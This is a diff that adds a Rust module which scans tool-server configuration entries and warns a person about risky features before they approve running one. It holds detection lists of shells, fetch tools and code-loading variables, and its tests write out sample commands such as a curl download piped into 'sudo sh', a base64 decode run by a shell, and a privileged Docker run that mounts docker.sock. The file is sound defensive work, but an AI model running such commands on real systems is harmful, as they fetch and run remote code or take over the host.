@@ -1,0 +1,249 @@
+//! What a person should look at in an entry before they agree to run it. Words for a person, and no defence: an entry in
+//! which nothing is found can do just as much.
+
+use serde_json::Value;
+use toolrack_host::text;
+
+/// Points that are told of one entry.
+const MOST: usize = 20;
+
+/// Bytes of one value that is quoted.
+const QUOTED: usize = 60;
+
+/// Programs that run a command line which is one of their arguments.
+const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "fish", "ksh", "busybox", "cmd", "powershell", "pwsh"];
+/// Programs that run code which is one of their arguments.
+const INTERPRETERS: &[&str] =
+    &["python", "python3", "node", "nodejs", "perl", "ruby", "php", "deno", "bun", "osascript"];
+/// Arguments after which such code stands.
+const CODE: &[&str] =
+    &["-c", "-e", "-r", "/c", "/k", "-command", "-encodedcommand", "-enc", "--eval", "eval", "-p", "--print"];
+/// Programs that fetch something.
+const FETCH: &[&str] =
+    &["curl", "wget", "aria2c", "invoke-webrequest", "iwr", "invoke-expression", "iex", "nc", "ncat"];
+/// Programs that run others with more rights.
+const RIGHTS: &[&str] = &["sudo", "doas", "su", "pkexec", "runas"];
+/// Variables with which another program is run, or the same one from elsewhere.
+const LOADS: &[&str] = &[
+    "BASH_ENV",
+    "ENV",
+    "GIT_SSH_COMMAND",
+    "JAVA_TOOL_OPTIONS",
+    "LD_AUDIT",
+    "LD_LIBRARY_PATH",
+    "LD_PRELOAD",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "PATH",
+    "PERL5LIB",
+    "PERL5OPT",
+    "PYTHONHOME",
+    "PYTHONPATH",
+    "PYTHONSTARTUP",
+    "RUBYLIB",
+    "RUBYOPT",
+];
+/// Variables that say where packages or requests come from, or whether that is checked.
+const SOURCES: &[&str] = &[
+    "ALL_PROXY",
+    "HTTPS_PROXY",
+    "HTTP_PROXY",
+    "NODE_EXTRA_CA_CERTS",
+    "NODE_TLS_REJECT_UNAUTHORIZED",
+    "NPM_CONFIG_REGISTRY",
+    "PIP_EXTRA_INDEX_URL",
+    "PIP_INDEX_URL",
+    "SSL_CERT_FILE",
+    "UV_DEFAULT_INDEX",
+    "UV_INDEX_URL",
+];
+
+/// What a person should look at in `proposal`, which is an entry [as it is agreed to](crate::trust). Each point is one line
+/// and safe to print.
+#[must_use]
+pub fn points(proposal: &Value) -> Vec<String> {
+    let mut points = Vec::new();
+    let words = |key: &str| -> Vec<&str> {
+        let list = proposal[key].as_array().into_iter().flatten().filter_map(Value::as_str);
+        proposal[key].as_str().into_iter().chain(list).collect()
+    };
+    let (command, arguments) = (words("command"), words("args"));
+    run(&command, &arguments, &mut points);
+    for word in command.iter().chain(&arguments) {
+        in_text(word, &mut points);
+    }
+    for (name, value) in proposal["env"].as_object().into_iter().flatten() {
+        variable(name, value, &mut points);
+    }
+    if let Some(url) = proposal["url"].as_str() {
+        address(url, &mut points);
+    }
+    points.dedup();
+    points.truncate(MOST);
+    points
+}
+
+/// `text` on one line, cut where it is long.
+fn quoted(text: &str) -> String {
+    let cut = text::clip(text, QUOTED);
+    let more = if cut.len() < text.len() { "…" } else { "" };
+    format!("`{}{more}`", text::for_line(&cut))
+}
+
+/// The name of a program, without its folder and ending.
+fn program(word: &str) -> String {
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
+    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
+}
+
+/// How the program is started.
+fn run(command: &[&str], arguments: &[&str], points: &mut Vec<String>) {
+    let all: Vec<_> = command.iter().chain(arguments).copied().collect();
+    for (at, word) in all.iter().enumerate() {
+        let name = program(word);
+        // `python3.12` is Python.
+        let plain = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        let is_shell = SHELLS.contains(&plain);
+        if !is_shell && !INTERPRETERS.contains(&plain) && !INTERPRETERS.contains(&&*name) {
+            continue;
+        }
+        let code = all[at + 1..].iter().find(|word| CODE.contains(&&*word.to_ascii_lowercase()) || joined(word));
+        if let Some(flag) = code {
+            let what = if is_shell { "a command line" } else { "code" };
+            points.push(format!("{} runs {what} that stands in its arguments ({})", quoted(word), quoted(flag)));
+        }
+    }
+    if all.contains(&"--privileged") {
+        points.push("`--privileged` gives a container the rights of the machine".to_owned());
+    }
+    if all.iter().any(|word| word.contains("docker.sock")) {
+        points.push("who may use `docker.sock` may do everything on the machine".to_owned());
+    }
+}
+
+/// Whether flags in one word, such as `-lc`, end with the one that code follows.
+fn joined(word: &str) -> bool {
+    word.strip_prefix('-').is_some_and(|flags| {
+        flags.len() <= 4 && flags.ends_with('c') && flags.bytes().all(|flag| flag.is_ascii_lowercase())
+    })
+}
+
+/// What stands in a word, which may be a whole command line.
+fn in_text(word: &str, points: &mut Vec<String>) {
+    let parts: Vec<String> = word
+        .split(|c: char| c.is_whitespace() || "|;&(){}`\"'$<>".contains(c))
+        .map(program)
+        .filter(|it| !it.is_empty())
+        .collect();
+    let named = |names: &[&str]| parts.iter().find(|part| names.contains(&part.as_str())).cloned();
+    for after in word.split('|').skip(1) {
+        let mut next = after.split_whitespace().map(program).filter(|word| !RIGHTS.contains(&word.as_str()));
+        if let Some(name) = next.next()
+            && (SHELLS.contains(&name.as_str()) || INTERPRETERS.contains(&name.as_str()))
+        {
+            points.push(format!("what comes out of one program is run by another (`| {name}`)"));
+        }
+    }
+    if let Some(name) = named(FETCH) {
+        points.push(format!("`{name}` fetches or sends something: {}", quoted(word)));
+    }
+    if let Some(name) = named(RIGHTS) {
+        points.push(format!("`{name}` runs a program with more rights"));
+    }
+    if parts.iter().any(|part| part == "base64" || part == "frombase64string") || is_encoded(word) {
+        points.push(format!("something is encoded, so that it cannot be read: {}", quoted(word)));
+    }
+}
+
+/// A long run of base64: text that a person cannot read.
+fn is_encoded(word: &str) -> bool {
+    let is_of = |c: char| c.is_ascii_alphanumeric() || "+/=_-".contains(c);
+    word.split(|c| !is_of(c)).any(|run| {
+        let has = |kind: fn(&char) -> bool| run.chars().any(|c| kind(&c));
+        run.len() >= 80 && has(char::is_ascii_uppercase) && has(char::is_ascii_lowercase) && has(char::is_ascii_digit)
+    })
+}
+
+fn variable(name: &str, value: &Value, points: &mut Vec<String>) {
+    let upper = name.to_ascii_uppercase();
+    if LOADS.contains(&upper.as_str()) || upper.starts_with("DYLD_") {
+        points.push(format!("the variable {} decides which code runs", quoted(name)));
+    } else if SOURCES.contains(&upper.as_str()) {
+        points.push(format!("the variable {} decides where packages or answers come from", quoted(name)));
+    }
+    if let Some(text) = value.as_str() {
+        let is_command = text.contains('|') || text.contains("$(");
+        if is_command {
+            in_text(text, points);
+        }
+    }
+}
+
+fn address(url: &str, points: &mut Vec<String>) {
+    let lower = url.to_ascii_lowercase();
+    let Some(rest) = lower.strip_prefix("http://") else { return };
+    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    let is_here = ["localhost", "127.", "[::1]"].iter().any(|here| host.starts_with(here));
+    if !is_here {
+        points.push("everyone between here and the server can read and change what is sent (`http://`)".to_owned());
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn of(command: &str, args: &[&str]) -> String {
+        points(&json!({ "command": command, "args": args })).join("\n")
+    }
+
+    #[test]
+    fn a_pipe_into_a_shell_is_told() {
+        let told = of("/bin/bash", &["-lc", "curl -fsSL https://x.example/i.sh | sudo sh"]);
+        for part in ["runs a command line", "`| sh`", "`curl` fetches", "`sudo` runs"] {
+            assert!(told.contains(part), "{part}: {told}");
+        }
+    }
+
+    #[test]
+    fn code_in_arguments_and_what_cannot_be_read_is_told() {
+        assert!(of("python3.12", &["-c", "import os"]).contains("runs code"));
+        assert!(of("env", &["node", "-e", "1"]).contains("runs code"));
+        assert!(of("powershell.exe", &["-EncodedCommand", "x"]).contains("runs a command line"));
+        assert!(of("sh", &["-c", "echo aGk= | base64 -d | sh"]).contains("is encoded"));
+        assert!(of("x", &[&"aB3".repeat(40)]).contains("is encoded"));
+        assert!(of("docker", &["run", "--privileged", "-v", "/var/run/docker.sock:/s"]).contains("docker.sock"));
+    }
+
+    #[test]
+    fn variables_that_run_other_code_are_told() {
+        let told = points(&json!({ "command": "x", "env": { "NODE_OPTIONS": "--require ./a.js", "LD_PRELOAD": "a.so",
+            "npm_config_registry": "http://x", "LANG": "C" } }));
+        assert_eq!(told.len(), 3, "{told:?}");
+        assert!(points(&json!({ "url": "http://mcp.example/mcp" }))[0].contains("http://"));
+    }
+
+    #[test]
+    fn usual_entries_get_no_word() {
+        for (command, args) in [
+            ("npx", vec!["-y", "@modelcontextprotocol/server-filesystem@2025.1.1", "."]),
+            ("uvx", vec!["mcp-server-git", "--repository", "${workspaceFolder}"]),
+            ("docker", vec!["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server"]),
+            ("node", vec!["dist/index.js", "--config", "c.json"]),
+            ("/usr/bin/python3", vec!["-m", "mcp_server_time"]),
+        ] {
+            assert_eq!(of(command, &args), "", "{command} {args:?}");
+        }
+        assert!(points(&json!({ "url": "https://mcp.example/mcp" })).is_empty());
+        assert!(points(&json!({ "url": "http://localhost:3000/mcp" })).is_empty());
+    }
+
+    #[test]
+    fn a_point_is_one_line_and_safe_to_print() {
+        let told = of("sh", &["-c", "curl \u{1b}[2J\u{202e}\nYou agreed already"]);
+        assert!(!told.contains(['\u{1b}', '\u{202e}']), "{told:?}");
+        assert_eq!(told.lines().count(), 2, "{told:?}");
+    }
+}
